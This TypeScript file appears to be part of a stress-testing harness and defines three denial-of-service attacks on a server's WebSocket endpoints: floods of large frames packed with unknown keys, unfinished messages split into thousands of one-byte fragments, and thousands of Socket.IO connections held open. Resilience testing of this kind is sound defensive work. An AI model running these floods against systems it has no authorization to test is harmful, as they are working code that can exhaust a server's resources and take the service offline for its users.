// Attacks over WebSocket connections: /ws and Socket.IO.
import type { Socket } from "node:net";
import { WebSocket } from "ws";
import { type Attack, manyUnknownKeys, paced, type Run } from "./attack.ts";

type Options = ConstructorParameters<typeof WebSocket>[2];

/** Resolves to the open socket, or to undefined if it was refused; counts which, and later the code of its close. */
const open = ({ url, from, count }: Run, path: string): Promise<WebSocket | undefined> =>
	new Promise(resolve => {
		const address = `${url.replace("http", "ws")}${path}`;
		const ws = new WebSocket(address, { perMessageDeflate: false, localAddress: from, handshakeTimeout: 10_000 } as Options);
		let isOpen = false;
		ws.on("open", () => {
			isOpen = true;
			count("open");
			resolve(ws);
		});
		ws.on("unexpected-response", (sent, { statusCode }) => {
			count(`refused ${statusCode}`);
			sent.destroy();
			resolve(undefined);
		});
		ws.on("error", error => {
			if (!isOpen && ws.readyState !== WebSocket.CLOSED) count((error as NodeJS.ErrnoException).code ?? error.message);
			resolve(undefined);
		});
		ws.on("close", code => {
			if (isOpen) count(`closed with ${code}`);
			resolve(undefined);
		});
	});

/** Keeps `size` sockets open and calls `use` with each. Replaces those that are closed: opens at most `perSecond` a second and `most` in total. */
const keepOpen = (
	run: Run,
	path: string,
	{ size, perSecond, most }: { size: number; perSecond: number; most: number },
	use: (ws: WebSocket) => void
) =>
	paced(run, { perSecond, maxRunning: size, most }, async () => {
		const ws = await open(run, path);
		if (!ws) return;
		use(ws);
		await new Promise(resolve => ws.on("close", resolve));
	});

export const unknownKeyFrames: Attack = {
	name: "frames",
	what: "64 KB frames of 6,500 unknown keys on 20 sockets of /ws, 150 a second",
	async run(run) {
		const frame = manyUnknownKeys();
		const sockets = new Set<WebSocket>();
		const opening = keepOpen(run, "/ws", { size: 20, perSecond: 20, most: 2_000 }, ws => {
			sockets.add(ws);
			ws.on("message", () => run.count("answered"));
			ws.on("close", () => sockets.delete(ws));
		});
		await paced(run, { perSecond: 150, maxRunning: 150 }, async n => {
			const all = [...sockets];
			const ws = all[n % all.length];
			// Frames that the server does not read are buffered in this process.
			if (ws && ws.bufferedAmount < 1024 * 1024) ws.send(frame);
		});
		await opening;
	}
};

/** RFC 6455, 5.2: a masked frame with one byte that does not end its message. A mask of zeros changes nothing. */
const fragment = (opcode: 0 | 1) => Buffer.from([opcode, 0x81, 0, 0, 0, 0, 0x61]);
const FRAGMENTS = 16_000;

export const fragments: Attack = {
	name: "fragments",
	what: `one unfinished message of ${FRAGMENTS.toLocaleString("en")} one-byte fragments on each of 200 sockets of /ws`,
	async run(run) {
		const message = Buffer.concat([fragment(1), ...Array.from({ length: FRAGMENTS - 1 }, () => fragment(0))]);
		await keepOpen(run, "/ws", { size: 200, perSecond: 50, most: 1_000 }, ws => {
			(ws as unknown as { _socket: Socket })._socket.write(message);
		});
	}
};

export const socketIoOpenings: Attack = {
	name: "socketio",
	what: "Socket.IO connections that stay open, 300 a second, at most 5,000",
	run: run =>
		keepOpen(run, "/socket.io/?EIO=4&transport=websocket", { size: 5_000, perSecond: 300, most: 5_000 }, ws => {
			ws.on("message", packet => {
				const text = String(packet);
				// Engine.IO: 0 opens the transport, 2 is a ping; 40 enters Socket.IO's namespace, 3 is the pong.
				if (text.startsWith("0")) ws.send("40");
				else if (text === "2") ws.send("3");
				else if (text.startsWith("40")) run.count("connected");
			});
		})
};
